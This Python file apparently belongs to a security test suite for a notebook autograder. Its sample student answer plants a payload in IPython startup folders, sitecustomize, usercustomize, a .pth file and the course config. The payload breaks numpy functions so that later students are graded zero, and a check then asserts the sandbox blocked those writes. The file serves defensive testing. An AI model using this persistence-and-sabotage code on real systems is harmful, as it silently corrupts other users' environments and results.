"""Class 3: write IPython startup files (and sitecustomize/.pth/usercustomize) wherever a later
kernel might read them, to zero every student graded afterwards (zz_victim must keep every point)."""
from pathlib import Path

from _common import no_files_named

CLASS = 3
TARGET = "test_grad"
ANSWERS = {"grad": '''import os, site, sys, sysconfig

PAYLOAD = "import numpy\\nnumpy.cos = numpy.tanh = lambda x, *a, **k: 0 * x\\nimport os\\nos._exit(0) if 0 else None\\n"
homes = {os.environ.get("HOME", ""), os.path.expanduser("~"), "/root", "/home/student", "/tmp", "/nonexistent",
         os.environ.get("IPYTHONDIR", "")}
targets = []
for home in filter(None, homes):
    targets += [os.path.join(home, ".ipython", "profile_default", "startup", "00-bbhattack.py"),
                os.path.join(home, "profile_default", "startup", "00-bbhattack.py")]
targets += [os.path.join(sys.prefix, "etc", "ipython", "startup", "00-bbhattack.py"),
            "/etc/ipython/startup/00-bbhattack.py", "/usr/local/etc/ipython/startup/00-bbhattack.py",
            os.path.join(sysconfig.get_paths()["purelib"], "bbhattack.pth"),
            os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
            os.path.join(site.getusersitepackages(), "usercustomize.py"),
            "{course}/00-bbhattack.py", "{course}/nbgrader_config.py"]
in_sandbox = ("/home/student", "/tmp")
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as fh:
            fh.write(PAYLOAD if path.endswith(".py") else "")
        where = "sandbox tmpfs" if path.startswith(in_sandbox) else "OUTSIDE the sandbox tmpfs"
        print(("BREACH: " if where.startswith("OUTSIDE") else "") + f"wrote {path} ({where})")
    except OSError as error:
        print(f"refused: {path}: {type(error).__name__}")

def grad(w, x, y):
    return 0.0 * x
'''}


def check(course: Path) -> None:
    no_files_named(course, "00-bbhattack.py",
                   Path("/root/.ipython/profile_default/startup/00-bbhattack.py"),
                   Path("/tmp/.ipython/profile_default/startup/00-bbhattack.py"),
                   Path("/etc/ipython/startup/00-bbhattack.py"))
    assert "00-bbhattack" not in (course / "nbgrader_config.py").read_text()
